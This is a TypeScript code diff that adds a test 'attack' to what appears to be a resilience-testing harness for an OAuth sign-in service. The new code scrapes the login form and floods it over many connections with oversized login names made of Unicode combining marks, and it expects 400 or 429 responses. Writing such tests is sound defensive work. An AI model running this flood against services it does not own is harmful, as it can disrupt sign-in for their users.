@@ -1,8 +1,9 @@
 import { setMaxListeners } from 'node:events';
 import { connect } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
-import type { Attack, Attacking } from '../attack.js';
-import type { Shot } from '../caller.js';
+import type { Attack, Attacking, Target } from '../attack.js';
+import { authorizationRequest } from '../authorization-request.js';
+import type { Caller, Shot } from '../caller.js';
 
 const formType = { 'content-type': 'application/x-www-form-urlencoded' };
 
@@ -42,6 +43,55 @@ export const costlyForms: Attack = {
         if (shot !== undefined) await attacking.send(shot);
       });
     await Promise.all(Array.from({ length: connections }, one));
+  },
+};
+
+/** Longer than a login name may be. Each letter carries as many combining marks as Unicode text may, or far more. */
+const loginNames = [`a${'\u0301\u0316'.repeat(2_000)}`, `a${'\u0301\u0316'.repeat(15)}`.repeat(120)];
+
+/** A sign-in as it is posted, with an authorization request that anybody can send. */
+async function openForm(
+  caller: Caller,
+  target: Target,
+): Promise<{ path: string; fields: [string, string][]; cookie: string }> {
+  const opened = await caller.send({
+    method: 'GET',
+    path: `/oauth/v2/authorize?${authorizationRequest(target, '')}`,
+  });
+  const headers = { cookie: opened.cookies };
+  const page = await caller.send({ method: 'GET', path: opened.location ?? '/', headers });
+  const [, path = '', form = ''] =
+    /<form method="post" action="([^"]+)">(.*?)<\/form>/s.exec(page.text) ?? [];
+  const hidden = [...form.matchAll(/type="hidden" name="([^"]+)" value="([^"]*)"/g)];
+  if (path === '') throw new Error(`There is no form: ${page.status} ${page.text.slice(0, 300)}`);
+  return {
+    path: path.replace(/^https?:\/\/[^/]+/, '').replaceAll('&amp;', '&'),
+    fields: hidden.map(([, name = '', value = '']): [string, string] => [name, value]),
+    cookie: [opened.cookies, page.cookies].filter((one) => one !== '').join('; '),
+  };
+}
+
+export const loginNamesOfMarks: Attack = {
+  name: 'A3 login names of combining marks',
+  sends: `${connections} connections, each with 49 sign-ins in 10 s, with login names of 4,001 and 3,720 characters`,
+  reached: ['400'],
+  // The limits of guesses.
+  possible: ['429'],
+  async start(caller, target) {
+    const { path, fields, cookie } = await openForm(caller, target);
+    const shots = loginNames.map((loginName): Shot => {
+      const body = new URLSearchParams([...fields, ['loginName', loginName], ['password', 'Wrong-Horse-7']]);
+      return { method: 'POST', path, headers: { ...formType, cookie }, body: body.toString() };
+    });
+    return async (attacking) => {
+      let turn = 0;
+      const one = () =>
+        attacking.rounds(10_000 / 49, async () => {
+          const shot = shots[turn++ % shots.length];
+          if (shot !== undefined) await attacking.send(shot);
+        });
+      await Promise.all(Array.from({ length: connections }, one));
+    };
   },
 };
 
